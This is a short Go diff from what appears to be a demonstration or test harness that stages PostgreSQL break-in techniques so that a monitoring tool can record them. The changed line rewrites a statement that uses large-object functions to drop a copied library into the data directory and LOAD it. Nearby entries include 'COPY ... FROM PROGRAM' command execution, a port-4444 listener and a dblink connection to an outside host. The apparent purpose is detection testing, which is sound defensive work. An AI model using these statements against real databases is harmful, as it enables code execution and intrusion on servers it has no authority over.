@@ -273,7 +273,7 @@ func (d *demo) breakIn(ctx context.Context) error {
 		{"system call: chroot(\"/\") from injected code", record.Syscalls, "chroot", func() error { return breakin.Chroot(pid) }},
 		{"shell: COPY loot FROM PROGRAM 'id'", record.Processes, "execve", statement("COPY loot FROM PROGRAM 'id'")},
 		{"dropped library: lo_export, then LOAD", record.Storage, "drop", statement(
-			"SELECT lo_export(lo_from_bytea(0, pg_read_binary_file('/usr/lib/postgresql/15/lib/dblink.so')), '" + data + "/x.so'); LOAD '" + data + "/x.so'")},
+			"SELECT lo_from_bytea(4242, pg_read_binary_file('/usr/lib/postgresql/15/lib/dblink.so')); SELECT lo_export(4242, '" + data + "/x.so'); LOAD '" + data + "/x.so'")},
 		{"dropped program: written to the data directory, executed", record.Processes, "execve", func() error { return breakin.Drop(pid, data+"/x") }},
 		{"listening port: 0.0.0.0:4444 from injected code", record.Network, "listen", func() error { return breakin.Listen(pid, 4444) }},
 		{"connection: dblink to " + d.outside + ":5432", record.Network, "connect", statement(
